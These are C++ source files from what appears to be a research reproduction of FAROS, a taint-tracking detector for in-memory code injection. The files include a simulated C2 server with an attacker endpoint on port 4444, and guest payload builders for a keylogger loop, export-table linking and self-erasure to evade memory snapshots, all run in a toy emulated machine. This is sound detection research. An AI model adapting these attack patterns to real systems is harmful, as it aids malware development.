  a.add(Reg::R3, Reg::R9, Reg::R2);
  a.ld8(Reg::R4, Reg::R3, 0);
  a.add(Reg::R3, Reg::R1, Reg::R2);
  a.st8(Reg::R3, 0, Reg::R4);
  a.addi(Reg::R2, Reg::R2, 1);
  a.jmp("loop");
  a.label("done");
  a.label("spin");
  attacks::emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("hello");
  a.data_str("hello", false);
  a.align(8);
  a.label("inbox");
  a.zeros(16);
  a.label("copy");
  a.zeros(16);
  auto image = ib.build();
  machine.kernel().vfs().create("C:/demo.exe", image.value().serialize());
  auto pid = machine.kernel().spawn("C:/demo.exe");

  // --- 3. a scripted remote peer answers the hello with 16 bytes ------
  class Peer : public os::EventSource {
   public:
    void poll(os::Machine& m) override {
      const auto& out = m.kernel().net().outbound();
      while (cursor_ < out.size()) {
        const auto& pkt = out[cursor_++];
        FlowTuple reply{pkt.flow.dst_ip, pkt.flow.dst_port, pkt.flow.src_ip,
                        pkt.flow.src_port};
        Bytes secret(16);
        for (int i = 0; i < 16; ++i) secret[i] = static_cast<u8>(0x41 + i);
        m.inject_packet(reply, secret);
      }
    }
    size_t cursor_ = 0;
  } peer;
  machine.set_event_source(&peer);
  machine.run(100'000);

  // --- 4. query provenance --------------------------------------------
  os::Process* proc = machine.kernel().find(pid.value());
  auto copy_off = ib.asm_().label_offset("copy");
  VAddr copy_va = os::kUserImageBase + copy_off.value();

  core::ProvListId id = faros.prov_at(proc->as, copy_va);
  std::printf("provenance of copied byte at 0x%08x:\n  %s\n", copy_va,
              core::render_chain(faros.store(), faros.maps(), id).c_str());
  std::printf("\ntainted bytes in the whole system: %llu\n",
              static_cast<unsigned long long>(faros.shadow().tainted_bytes()));
  std::printf("instructions analysed: %llu\n",
              static_cast<unsigned long long>(faros.stats().insns_seen));
  std::printf("in-memory injection findings: %zu (expected 0 — this demo "
              "is benign)\n",
              faros.findings().size());
  return 0;
}
