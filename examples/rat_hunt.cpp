// RAT hunt: the practical question FAROS answers — two remote-admin tools
// look identical to an event-based sandbox (both talk to a remote endpoint,
// read files, pump the screen), but one of them injects code into
// explorer.exe. Run both through CuckooBox and FAROS and compare.
//
// Usage: rat_hunt
#include <cstdio>

#include "attacks/scenarios.h"
#include "baselines/cuckoo.h"

using namespace faros;

namespace {

struct Verdicts {
  bool cuckoo = false;
  bool faros = false;
  size_t syscalls = 0;
  size_t netflows = 0;
  std::string provenance;
};

Verdicts examine(attacks::Scenario& sc) {
  Verdicts v;
  // CuckooBox: live run, behavioural verdict.
  {
    os::Machine m;
    baselines::CuckooSandboxSim cuckoo;
    m.add_monitor(&cuckoo);
    (void)m.boot();
    auto source = sc.make_source();
    if (source) m.set_event_source(source.get());
    (void)sc.setup(m);
    m.run(sc.budget());
    auto dump = baselines::CuckooSandboxSim::take_memory_dump(m.kernel());
    v.cuckoo = cuckoo.behavioral_verdict() ||
               !baselines::malfind(dump).empty();
    v.syscalls = cuckoo.syscalls().size();
    v.netflows = cuckoo.netflows().size();
  }
  // FAROS: record + replay under taint.
  auto run = attacks::analyze(sc);
  if (run.ok()) {
    v.faros = run.value().flagged;
    if (!run.value().findings.empty()) {
      // First line of the report carries the chain.
      v.provenance = run.value().report;
    }
  }
  return v;
}

}  // namespace

int main() {
  std::printf("=== RAT hunt: DarkComet-style RAT vs TeamViewer-style "
              "remote admin ===\n\n");

  attacks::RatInjectionScenario rat("darkcomet");
  attacks::BehaviorScenario admin(
      "TeamViewer.exe",
      {attacks::Behavior::kIdle, attacks::Behavior::kRun,
       attacks::Behavior::kRemoteDesktop, attacks::Behavior::kFileTransfer,
       attacks::Behavior::kDownload});

  Verdicts rat_v = examine(rat);
  Verdicts admin_v = examine(admin);

  std::printf("%-24s %12s %12s %18s %10s\n", "sample", "syscalls",
              "net events", "cuckoo(+malfind)", "FAROS");
  std::printf("%-24s %12zu %12zu %18s %10s\n", "darkcomet.exe",
              rat_v.syscalls, rat_v.netflows,
              rat_v.cuckoo ? "suspicious" : "clean",
              rat_v.faros ? "FLAGGED" : "clean");
  std::printf("%-24s %12zu %12zu %18s %10s\n", "TeamViewer.exe",
              admin_v.syscalls, admin_v.netflows,
              admin_v.cuckoo ? "suspicious" : "clean",
              admin_v.faros ? "FLAGGED" : "clean");

  if (rat_v.faros) {
    std::printf("\nwhere the injected code came from (FAROS provenance):\n%s",
                rat_v.provenance.c_str());
  }
  std::printf("\nexpected: only darkcomet.exe flagged by FAROS, with the "
              "full netflow -> RAT -> explorer.exe chain.\n");
  return (rat_v.faros && !admin_v.faros) ? 0 : 1;
}
