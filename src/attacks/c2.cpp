#include "attacks/c2.h"

namespace faros::attacks {

void C2Server::poll(os::Machine& m) {
  const auto& outbound = m.kernel().net().outbound();
  while (outbound_cursor_ < outbound.size()) {
    const os::OutboundPacket& pkt = outbound[outbound_cursor_++];
    if (pkt.flow.dst_ip != ip_ || pkt.flow.dst_port != port_) continue;
    ++requests_seen_;
    received_.push_back(pkt.data);
    if (responses_.empty()) continue;
    Bytes response = std::move(responses_.front());
    responses_.pop_front();
    // Reply on the reverse flow so the guest's connected socket accepts it.
    FlowTuple reply{ip_, port_, pkt.flow.src_ip, pkt.flow.src_port};
    if (m.inject_packet(reply, response)) ++responses_sent_;
  }
}

}  // namespace faros::attacks
