// Scripted remote peer (the "attacker machine" / remote service): watches
// the guest's outbound traffic and answers each packet sent to its endpoint
// with the next queued response. In record mode every injected packet lands
// in the replay log, so the whole exchange replays deterministically.
#pragma once

#include <deque>
#include <memory>
#include <vector>

#include "attacks/guest_common.h"
#include "os/machine.h"

namespace faros::attacks {

class C2Server : public os::EventSource {
 public:
  explicit C2Server(u32 ip = kAttackerIp, u16 port = kAttackerPort)
      : ip_(ip), port_(port) {}

  /// Queues a response; consumed one per guest packet addressed to us.
  void queue_response(Bytes data) { responses_.push_back(std::move(data)); }

  void poll(os::Machine& m) override;

  u32 requests_seen() const { return requests_seen_; }
  u32 responses_sent() const { return responses_sent_; }
  /// Payload bytes the guest uploaded to us (exfil observation).
  const std::vector<Bytes>& received() const { return received_; }

 private:
  u32 ip_;
  u16 port_;
  std::deque<Bytes> responses_;
  size_t outbound_cursor_ = 0;
  std::vector<Bytes> received_;
  u32 requests_seen_ = 0;
  u32 responses_sent_ = 0;
};

/// Several scripted endpoints polled as one event source. Multi-stage
/// malware pulls different artefacts (payload, key, config) from different
/// servers; each stage keeps its own endpoint, response queue and outbound
/// cursor, so the exchanges stay independent inside one recording.
class MultiC2 final : public os::EventSource {
 public:
  void add(std::unique_ptr<C2Server> server) {
    servers_.push_back(std::move(server));
  }

  void poll(os::Machine& m) override {
    for (auto& s : servers_) s->poll(m);
  }

 private:
  std::vector<std::unique_ptr<C2Server>> servers_;
};

}  // namespace faros::attacks
