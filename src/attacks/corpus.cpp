#include "attacks/corpus.h"

#include "attacks/datasets.h"

namespace faros::attacks {

namespace {

template <typename ScenarioT, typename... Args>
CorpusEntry entry(std::string name, std::string category, bool expect_flagged,
                  Args... args) {
  CorpusEntry e;
  e.name = std::move(name);
  e.category = std::move(category);
  e.expect_flagged = expect_flagged;
  e.make = [args...]() -> std::unique_ptr<Scenario> {
    return std::make_unique<ScenarioT>(args...);
  };
  return e;
}

}  // namespace

std::vector<CorpusEntry> injection_corpus() {
  std::vector<CorpusEntry> out;
  out.push_back(entry<ReflectiveDllScenario>(
      "reflective_dll_inject", "injection", true,
      ReflectiveVariant::kMeterpreter, false));
  out.push_back(entry<ReflectiveDllScenario>(
      "reverse_tcp_dns", "injection", true, ReflectiveVariant::kReverseTcpDns,
      false));
  out.push_back(entry<ReflectiveDllScenario>(
      "bypassuac_injection", "injection", true, ReflectiveVariant::kBypassUac,
      false));
  out.push_back(
      entry<HollowingScenario>("process_hollowing", "injection", true, false));
  out.push_back(entry<RatInjectionScenario>("darkcomet-injection", "injection",
                                            true, std::string("darkcomet")));
  out.push_back(entry<RatInjectionScenario>("njrat-injection", "injection",
                                            true, std::string("njrat")));
  out.push_back(
      entry<DropperChainScenario>("dropper_chain", "injection", true));
  out.push_back(entry<IpcRelayScenario>("ipc_relay", "injection", true));
  out.push_back(entry<AtomBombingScenario>("atom_bombing", "injection", true));
  out.push_back(
      entry<ThreadHijackScenario>("thread_hijack", "injection", true));
  out.push_back(
      entry<InjectionRelayScenario>("injection_relay", "injection", true));
  return out;
}

std::vector<CorpusEntry> policy_corpus() {
  std::vector<CorpusEntry> out;
  out.push_back(entry<MultiStageC2Scenario>("multi_stage_c2", "policy", true));
  return out;
}

std::vector<CorpusEntry> jit_corpus() {
  std::vector<CorpusEntry> out;
  for (const auto& w : table3_workloads()) {
    // The linking applets resolve helpers through export tables from
    // network-derived code — the paper's two (whitelistable) FPs.
    out.push_back(entry<JitScenario>(w.name, "jit", w.linking, w.name, w.host,
                                     w.linking));
  }
  return out;
}

std::vector<CorpusEntry> behavior_corpus() {
  std::vector<CorpusEntry> out;
  for (const auto& s : table4_full_battery()) {
    out.push_back(entry<BehaviorScenario>(s.name, "malware", false,
                                          s.name + ".exe", s.behaviors));
  }
  for (const auto& s : table4_benign()) {
    out.push_back(entry<BehaviorScenario>(s.name, "benign", false,
                                          s.name + ".exe", s.behaviors));
  }
  return out;
}

std::vector<CorpusEntry> full_corpus() {
  std::vector<CorpusEntry> out = injection_corpus();
  for (auto& e : jit_corpus()) out.push_back(std::move(e));
  for (auto& e : behavior_corpus()) out.push_back(std::move(e));
  return out;
}

}  // namespace faros::attacks
