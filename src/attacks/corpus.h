// The triage corpus: every scenario in the repository, enumerated as named
// job factories so the farm (src/farm) can fan the whole evaluation across
// a worker pool. Each entry carries the ground-truth verdict (is FAROS
// expected to flag it?) so triage output can be scored TP/FP/TN/FN against
// the paper's tables:
//  * injection  — the six Section-VI samples plus the five extension
//                 attacks (dropper chain, IPC relay, atom bombing, thread
//                 hijack, injection relay); all expected flagged.
//  * jit        — the 20 Table III workloads; the two runtime-linking
//                 applets are the paper's known false positives.
//  * malware    — the 90-sample non-injecting Table IV battery; clean.
//  * benign     — the 14 benign Table IV applications; clean.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "attacks/scenarios.h"

namespace faros::attacks {

struct CorpusEntry {
  std::string name;      // unique job name (scenario / sample name)
  std::string category;  // "injection" | "jit" | "malware" | "benign"
  bool expect_flagged = false;  // ground truth for triage scoring
  std::function<std::unique_ptr<Scenario>()> make;
};

/// The eleven in-memory injection attacks (paper's six + extensions,
/// including the thread-hijack and A->B->C relay slice scenarios).
std::vector<CorpusEntry> injection_corpus();

/// Scenarios whose ground truth depends on a loaded policy ruleset (the
/// built-in rules stay silent on them). Category "policy"; NOT part of
/// full_corpus() — faros_triage adds them only when a ruleset is loaded
/// or the category is requested explicitly.
std::vector<CorpusEntry> policy_corpus();

/// The 20 Table III JIT workloads (2 expected FPs: the linking applets).
std::vector<CorpusEntry> jit_corpus();

/// The Table IV battery: 90 non-injecting malware + 14 benign apps.
std::vector<CorpusEntry> behavior_corpus();

/// Everything above, in stable catalogue order.
std::vector<CorpusEntry> full_corpus();

}  // namespace faros::attacks
