#include "attacks/datasets.h"

namespace faros::attacks {

using B = Behavior;

std::vector<JitWorkload> table3_workloads() {
  // Java applets (http://www.walter-fendt.de/ph14e/ physics simulations).
  // Two of them — like 2 of the paper's 20 workloads (10% of the applets) —
  // link a runtime helper through the export tables from code that arrived
  // over the network; the rest are pure-compute translations.
  std::vector<JitWorkload> out = {
      {"acceleration", "java.exe", false},
      {"equilibrium", "java.exe", false},
      {"pulleysystem", "java.exe", true},   // flagged in our run
      {"projectile", "java.exe", false},
      {"ncradle", "java.exe", false},
      {"keplerlaw1", "java.exe", false},
      {"inclplane", "java.exe", false},
      {"lever", "java.exe", false},
      {"keplerlaw2", "java.exe", false},
      {"collision", "java.exe", true},      // flagged in our run
      // AJAX websites: scripted UI logic, no runtime linking.
      {"gmail.com", "browser.exe", false},
      {"maps.google.com", "browser.exe", false},
      {"kayak.com", "browser.exe", false},
      {"netflix.com-top100", "browser.exe", false},
      {"kiko.com", "browser.exe", false},
      {"backpackit.com", "browser.exe", false},
      {"sudokucarving.com", "browser.exe", false},
      {"pressdisplay.com", "browser.exe", false},
      {"rpad.com", "browser.exe", false},
      {"brainking.com", "browser.exe", false},
  };
  return out;
}

std::vector<SampleSpec> table4_families() {
  // Behaviour grids transcribed from Table IV (17 families). None injects.
  return {
      {"Pandora v2.2", "Pandora", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kFileTransfer, B::kKeylogger,
        B::kRemoteDesktop, B::kUpload}},
      {"Darkcomet v5.3", "Darkcomet", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kKeylogger, B::kRemoteDesktop,
        B::kDownload}},
      {"Njrat v0.7", "Njrat", false,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kKeylogger, B::kUpload,
        B::kRemoteShell}},
      {"Spygate v3.2", "Spygate", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kFileTransfer, B::kKeylogger,
        B::kRemoteDesktop, B::kDownload}},
      {"Blue Banana", "Blue Banana", false,
       {B::kIdle, B::kRun, B::kDownload, B::kRemoteShell}},
      {"Blue Banana v2.0", "Blue Banana", false,
       {B::kIdle, B::kRun, B::kDownload, B::kRemoteShell}},
      {"Blue Banana v3.0", "Blue Banana", false,
       {B::kIdle, B::kRun, B::kDownload, B::kRemoteShell}},
      {"Bozok", "Bozok", false,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kKeylogger, B::kUpload,
        B::kDownload}},
      {"Bozok v2.0", "Bozok", false,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kKeylogger, B::kUpload,
        B::kDownload}},
      {"Bozok v3.0", "Bozok", false,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kKeylogger, B::kUpload,
        B::kDownload}},
      {"DarkComet v5.1.2", "Darkcomet", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kKeylogger, B::kRemoteDesktop,
        B::kDownload}},
      {"DarkComet legacy", "Darkcomet", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kKeylogger, B::kRemoteDesktop,
        B::kDownload}},
      {"Extremerat v2.7.1", "Extremerat", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kFileTransfer, B::kKeylogger,
        B::kRemoteDesktop, B::kRemoteShell}},
      {"Jspy", "Jspy", false,
       {B::kIdle, B::kRun, B::kKeylogger, B::kUpload}},
      {"Jspy v2.0", "Jspy", false,
       {B::kIdle, B::kRun, B::kKeylogger, B::kUpload}},
      {"Jspy v3.0", "Jspy", false,
       {B::kIdle, B::kRun, B::kKeylogger, B::kUpload}},
      {"Quasar v1.0", "Quasar", false,
       {B::kIdle, B::kRun, B::kRemoteShell}},
  };
}

std::vector<SampleSpec> table4_benign() {
  return {
      {"Remote Utility", "benign", true,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kRemoteDesktop,
        B::kDownload}},
      {"TeamViewer", "benign", true,
       {B::kIdle, B::kRun, B::kRemoteDesktop}},
      {"Win7-snipping tool", "benign", true,
       {B::kIdle, B::kRun, B::kFileTransfer}},
      {"Skype", "benign", true,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kFileTransfer}},
      {"Chrome", "benign", true, {B::kIdle, B::kRun, B::kDownload}},
      {"Firefox", "benign", true, {B::kIdle, B::kRun, B::kDownload}},
      {"Notepad++", "benign", true, {B::kIdle, B::kFileTransfer}},
      {"7-Zip", "benign", true, {B::kIdle, B::kRun}},
      {"VLC", "benign", true, {B::kIdle, B::kAudioRecord}},
      {"Word", "benign", true, {B::kIdle, B::kFileTransfer}},
      {"Excel", "benign", true, {B::kIdle, B::kFileTransfer}},
      {"Outlook", "benign", true,
       {B::kIdle, B::kUpload, B::kDownload}},
      {"Spotify", "benign", true, {B::kIdle, B::kDownload}},
      {"Dropbox", "benign", true,
       {B::kIdle, B::kUpload, B::kDownload}},
  };
}

std::vector<SampleSpec> table4_full_battery() {
  // Expand the 17 families to the paper's 90 samples with hash variants
  // (same behaviour profile, distinct sample identity).
  std::vector<SampleSpec> out;
  auto families = table4_families();
  size_t i = 0;
  while (out.size() < 90) {
    const SampleSpec& base = families[i % families.size()];
    SampleSpec s = base;
    u32 variant = static_cast<u32>(i / families.size()) + 1;
    if (variant > 1) {
      s.name = base.name + " (s" + std::to_string(variant) + ")";
    }
    out.push_back(std::move(s));
    ++i;
  }
  return out;
}

std::vector<SampleSpec> table5_apps() {
  // The six applications of Table V, heaviest first as in the paper.
  return {
      {"Skype", "benign", true,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kFileTransfer, B::kDownload,
        B::kRemoteDesktop}},
      {"Team Viewer", "benign", true,
       {B::kIdle, B::kRun, B::kRemoteDesktop, B::kDownload}},
      {"Bozok", "Bozok", false,
       {B::kIdle, B::kKeylogger, B::kUpload}},
      {"Spygate", "Spygate", false,
       {B::kIdle, B::kRun, B::kAudioRecord, B::kKeylogger, B::kDownload}},
      {"Pandora", "Pandora", false, {B::kIdle, B::kUpload}},
      {"Remote Utility", "benign", true,
       {B::kIdle, B::kRun, B::kFileTransfer, B::kRemoteDesktop, B::kDownload,
        B::kRemoteShell}},
  };
}

}  // namespace faros::attacks
