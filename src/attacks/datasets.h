// Evaluation datasets mirroring the paper:
//  * Table III — 10 Java applets + 10 AJAX websites; exactly two applets
//    perform runtime linking from network-derived code (the 10% applet /
//    2-of-20 false-positive result).
//  * Table IV — the 17 malware families with their behaviour grids,
//    expanded with version variants to the paper's 90 non-injecting
//    samples, plus 14 benign applications.
//  * Table V — the six applications whose replay overhead the paper
//    measures.
#pragma once

#include <string>
#include <vector>

#include "attacks/programs.h"

namespace faros::attacks {

struct JitWorkload {
  std::string name;   // "acceleration", "gmail.com", ...
  std::string host;   // "java.exe" or "browser.exe"
  bool linking;       // resolves helpers via export tables (FP shape)
};

/// The 20 Table III workloads (10 applets, 10 AJAX sites; 2 linking).
std::vector<JitWorkload> table3_workloads();

struct SampleSpec {
  std::string name;                 // "Bozok v2.0 (s3)"
  std::string family;               // "Bozok"
  bool benign;                      // Table IV bottom block
  std::vector<Behavior> behaviors;
};

/// The 17 Table IV malware families (one spec each, base behaviours).
std::vector<SampleSpec> table4_families();

/// The 14 benign applications.
std::vector<SampleSpec> table4_benign();

/// The full 90-sample malware battery: families expanded with variants.
std::vector<SampleSpec> table4_full_battery();

/// The six Table V performance applications (name -> behaviours).
std::vector<SampleSpec> table5_apps();

}  // namespace faros::attacks
