#include "attacks/guest_common.h"

#include "os/runtime.h"

namespace faros::attacks {

using os::Sys;
using vm::Assembler;
using vm::Reg;

void emit_sys(Assembler& a, Sys num) {
  a.movi(Reg::R0, static_cast<u32>(num));
  a.syscall_();
}

void emit_connect(Assembler& a, u32 ip, u16 port) {
  emit_sys(a, Sys::kNtSocket);
  a.mov(Reg::R10, Reg::R0);
  a.mov(Reg::R1, Reg::R10);
  a.movi(Reg::R2, ip);
  a.movi(Reg::R3, port);
  emit_sys(a, Sys::kNtConnect);
}

void emit_send_label(Assembler& a, const std::string& data_label, u32 len) {
  a.mov(Reg::R1, Reg::R10);
  a.movi_label(Reg::R2, data_label);
  a.movi(Reg::R3, len);
  emit_sys(a, Sys::kNtSend);
}

void emit_recv(Assembler& a, Reg buf_reg, u32 cap) {
  a.mov(Reg::R1, Reg::R10);
  a.mov(Reg::R2, buf_reg);
  a.movi(Reg::R3, cap);
  emit_sys(a, Sys::kNtRecv);
}

void emit_alloc_self(Assembler& a, u32 len, u32 prot) {
  a.movi(Reg::R1, 0);  // 0 = current process
  a.movi(Reg::R2, len);
  a.movi(Reg::R3, prot);
  emit_sys(a, Sys::kNtAllocateVirtualMemory);
}

void emit_export_walk(Assembler& a, const std::string& prefix,
                      u32 module_hash, u32 symbol_hash) {
  const std::string mod_loop = prefix + "_mod";
  const std::string next_mod = prefix + "_nextm";
  const std::string exp_loop = prefix + "_exp";
  const std::string next_exp = prefix + "_nexte";
  const std::string fail = prefix + "_fail";
  const std::string done = prefix + "_done";

  a.movi(Reg::R2, os::KernelLayout::kModuleDir);
  a.ld32(Reg::R3, Reg::R2, 0);  // module count
  a.movi(Reg::R4, 0);
  a.label(mod_loop);
  a.cmp(Reg::R4, Reg::R3);
  a.bgeu(fail);
  a.muli(Reg::R5, Reg::R4, os::KernelLayout::kModuleDirEntrySize);
  a.add(Reg::R5, Reg::R5, Reg::R2);
  a.addi(Reg::R5, Reg::R5, 4);
  a.ld32(Reg::R1, Reg::R5, 0);  // entry.name_hash
  a.cmpi(Reg::R1, static_cast<i32>(module_hash));
  a.bne(next_mod);
  a.ld32(Reg::R5, Reg::R5, 8);  // entry.exports_va
  a.ld32(Reg::R3, Reg::R5, 0);  // export count
  a.movi(Reg::R4, 0);
  a.label(exp_loop);
  a.cmp(Reg::R4, Reg::R3);
  a.bgeu(fail);
  a.muli(Reg::R1, Reg::R4, 8);
  a.add(Reg::R1, Reg::R1, Reg::R5);
  a.addi(Reg::R1, Reg::R1, 4);
  a.ld32(Reg::R0, Reg::R1, 0);  // export.hash
  a.cmpi(Reg::R0, static_cast<i32>(symbol_hash));
  a.bne(next_exp);
  a.ld32(Reg::R0, Reg::R1, 4);  // export.addr — the flagged confluence read
  a.jmp(done);
  a.label(next_exp);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp(exp_loop);
  a.label(next_mod);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp(mod_loop);
  a.label(fail);
  a.movi(Reg::R0, 0);
  a.label(done);
}

void emit_yield_loop(Assembler& a, const std::string& prefix,
                     u32 iterations) {
  const std::string loop = prefix + "_loop";
  const std::string done = prefix + "_done";
  a.movi(Reg::R11, 0);
  a.label(loop);
  a.cmpi(Reg::R11, static_cast<i32>(iterations));
  a.bgeu(done);
  emit_sys(a, Sys::kNtYield);
  a.addi(Reg::R11, Reg::R11, 1);
  a.jmp(loop);
  a.label(done);
}

void emit_busy_loop(Assembler& a, const std::string& prefix,
                    u32 iterations) {
  const std::string loop = prefix + "_busy";
  const std::string done = prefix + "_busyd";
  a.movi(Reg::R11, 0);
  a.movi(Reg::R5, 3);
  a.label(loop);
  a.cmpi(Reg::R11, static_cast<i32>(iterations));
  a.bgeu(done);
  a.muli(Reg::R5, Reg::R5, 1103515245);
  a.addi(Reg::R5, Reg::R5, 12345);
  a.shri(Reg::R6, Reg::R5, 16);
  a.xor_(Reg::R5, Reg::R5, Reg::R6);
  // A divu with an in-block constant divisor: not taint_inert (divide by
  // zero would trap), so this keeps the hot block off the per-opcode
  // elision fast path — only a static constant-divisor proof (sa elide
  // hints) can reclaim it. Models real compiler output, where hot loops
  // rarely stay free of every excluded opcode.
  a.movi(Reg::R7, 7);
  a.divu(Reg::R6, Reg::R5, Reg::R7);
  a.addi(Reg::R11, Reg::R11, 1);
  a.jmp(loop);
  a.label(done);
}

void emit_exit(Assembler& a, u32 code) {
  a.movi(Reg::R1, code);
  emit_sys(a, Sys::kNtExit);
}

}  // namespace faros::attacks
