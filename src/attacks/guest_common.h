// Shared guest-code emitters used by every workload and attack program:
// syscall invocation, C2 connection boilerplate, and the inline export-table
// walk that reflective payloads use to link themselves (the detection
// surface of the whole reproduction).
#pragma once

#include <string>

#include "os/syscalls.h"
#include "vm/assembler.h"

namespace faros::attacks {

/// Default attacker endpoint (paper Table II: 169.254.26.161:4444).
inline constexpr u32 kAttackerIp = 0xa9fe1aa1;  // 169.254.26.161
inline constexpr u16 kAttackerPort = 4444;

/// Emits `movi r0, <num>; syscall` — args must already be in r1..r4.
/// Result lands in r0.
void emit_sys(vm::Assembler& a, os::Sys num);

/// Emits: r10 = socket handle, connected to (ip, port).
/// Clobbers r0..r3.
void emit_connect(vm::Assembler& a, u32 ip, u16 port);

/// Emits: send `len` bytes at label `data_label` over socket in r10
/// (non-PIC: uses the absolute label address). Clobbers r0..r3.
void emit_send_label(vm::Assembler& a, const std::string& data_label,
                     u32 len);

/// Emits: blocking recv into `buf_reg` (a register holding the buffer
/// address), up to `cap` bytes, over socket in r10; received length in r0.
void emit_recv(vm::Assembler& a, vm::Reg buf_reg, u32 cap);

/// Emits: r0 = NtAllocateVirtualMemory(pid_reg or self, len, prot).
/// Pass vm::Reg(0xff)... use pid_reg = r0 meaning self? Callers load r1
/// themselves; this helper allocates in the *calling* process.
void emit_alloc_self(vm::Assembler& a, u32 len, u32 prot);

/// Emits an inline, position-independent export-table walk: resolves
/// `module!symbol` by scanning the kernel module directory and the module's
/// export table with guest LD32 instructions, leaving the resolved address
/// in r0 (0 if not found). Clobbers r1..r5. `prefix` uniquifies labels.
///
/// When these instructions execute from network- or foreign-process-tainted
/// memory, the final LD32 (which reads the export-table-tagged function
/// pointer) is exactly the tag confluence FAROS flags.
void emit_export_walk(vm::Assembler& a, const std::string& prefix,
                      u32 module_hash, u32 symbol_hash);

/// Emits a bounded busy/yield loop (keeps a benign process alive and
/// scheduled without blocking).
void emit_yield_loop(vm::Assembler& a, const std::string& prefix,
                     u32 iterations);

/// Emits a pure-compute loop (`iterations` rounds of multiply/add/shift) —
/// models an application's event loop doing real work. Clobbers r5-r7, r11.
void emit_busy_loop(vm::Assembler& a, const std::string& prefix,
                    u32 iterations);

/// Emits NtExit(code).
void emit_exit(vm::Assembler& a, u32 code = 0);

}  // namespace faros::attacks
