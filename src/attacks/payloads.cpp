#include "attacks/payloads.h"

#include "attacks/guest_common.h"
#include "common/hash.h"
#include "os/runtime.h"

namespace faros::attacks {

using os::Sys;
using vm::Assembler;
using vm::Reg;

Result<Bytes> build_payload(const PayloadSpec& spec) {
  Assembler a;
  a.label("_pstart");
  // Preserve the caller's return address: actions use callr internally.
  a.push(Reg::LR);

  switch (spec.action) {
    case PayloadAction::kMessageBox: {
      emit_export_walk(a, "mb", fnv1a32(os::sym::kUser32),
                       fnv1a32(os::sym::kMessageBox));
      a.mov(Reg::R9, Reg::R0);
      a.addpc_label(Reg::R1, "msg");
      a.movi(Reg::R2, static_cast<u32>(spec.message.size()));
      a.callr(Reg::R9);
      break;
    }
    case PayloadAction::kKeylogger: {
      emit_export_walk(a, "kl", fnv1a32(os::sym::kUser32),
                       fnv1a32(os::sym::kMessageBox));
      a.mov(Reg::R9, Reg::R0);
      a.addpc_label(Reg::R1, "msg");
      a.movi(Reg::R2, static_cast<u32>(spec.message.size()));
      a.callr(Reg::R9);
      // Open (create) the log file.
      a.addpc_label(Reg::R1, "logpath");
      emit_sys(a, Sys::kNtCreateFile);
      a.mov(Reg::R8, Reg::R0);
      // Capture `keystrokes` keyboard reads into the log.
      a.addpc_label(Reg::R12, "kbuf");
      a.movi(Reg::R11, 0);
      a.label("klog_loop");
      a.cmpi(Reg::R11, static_cast<i32>(spec.keystrokes));
      a.bgeu("klog_done");
      a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kKeyboard));
      a.mov(Reg::R2, Reg::R12);
      a.movi(Reg::R3, 16);
      emit_sys(a, Sys::kNtReadDevice);
      a.mov(Reg::R7, Reg::R0);
      a.mov(Reg::R1, Reg::R8);
      a.mov(Reg::R2, Reg::R12);
      a.mov(Reg::R3, Reg::R7);
      emit_sys(a, Sys::kNtWriteFile);
      a.addi(Reg::R11, Reg::R11, 1);
      a.jmp("klog_loop");
      a.label("klog_done");
      break;
    }
    case PayloadAction::kCompute: {
      a.movi(Reg::R5, 3);
      a.movi(Reg::R6, 7);
      a.movi(Reg::R11, 0);
      a.label("c_loop");
      a.cmpi(Reg::R11, static_cast<i32>(spec.compute_iters));
      a.bgeu("c_done");
      a.mul(Reg::R7, Reg::R5, Reg::R6);
      a.add(Reg::R5, Reg::R7, Reg::R6);
      a.shri(Reg::R5, Reg::R5, 1);
      a.xori(Reg::R6, Reg::R5, 0x55aa);
      a.addi(Reg::R11, Reg::R11, 1);
      a.jmp("c_loop");
      a.label("c_done");
      break;
    }
    case PayloadAction::kLinkedCompute: {
      // Runtime linking: resolve RtlMemset via the export tables, use it.
      emit_export_walk(a, "lc", fnv1a32(os::sym::kNtdll),
                       fnv1a32(os::sym::kMemset));
      a.mov(Reg::R9, Reg::R0);
      a.addpc_label(Reg::R1, "kbuf");
      a.movi(Reg::R2, 0x41);
      a.movi(Reg::R3, 16);
      a.callr(Reg::R9);
      a.movi(Reg::R5, 11);
      a.movi(Reg::R11, 0);
      // "lc_" is the export walk's label namespace (it defines lc_done);
      // the compute loop gets its own prefix.
      a.label("lcc_loop");
      a.cmpi(Reg::R11, static_cast<i32>(spec.compute_iters));
      a.bgeu("lcc_done");
      a.muli(Reg::R5, Reg::R5, 17);
      a.addi(Reg::R5, Reg::R5, 29);
      a.addi(Reg::R11, Reg::R11, 1);
      a.jmp("lcc_loop");
      a.label("lcc_done");
      break;
    }
  }

  auto emit_data = [&]() {
    a.align(8);
    a.label("msg");
    a.data_str(spec.message, /*nul_terminate=*/false);
    a.align(8);
    a.label("logpath");
    a.data_str(spec.log_path);
    a.align(8);
    a.label("kbuf");
    a.zeros(16);
    a.align(8);
  };

  if (spec.erase_self) {
    // Transient variant: the data lives *inside* the erased range, so the
    // wipe leaves only the small eraser loop + epilogue resident — too
    // little for a one-shot memory snapshot to recognise.
    a.jmp("_erase_end");
    emit_data();
    a.label("_erase_end");
    a.addpc_label(Reg::R1, "_pstart");
    a.addpc_label(Reg::R2, "_erase_end");
    a.movi(Reg::R3, 0);
    a.label("erase_loop");
    a.cmp(Reg::R1, Reg::R2);
    a.bgeu("erase_done");
    a.st8(Reg::R1, 0, Reg::R3);
    a.addi(Reg::R1, Reg::R1, 1);
    a.jmp("erase_loop");
    a.label("erase_done");
  }

  switch (spec.ending) {
    case PayloadEnding::kExit: emit_exit(a, 0); break;
    case PayloadEnding::kRet:
      a.pop(Reg::LR);
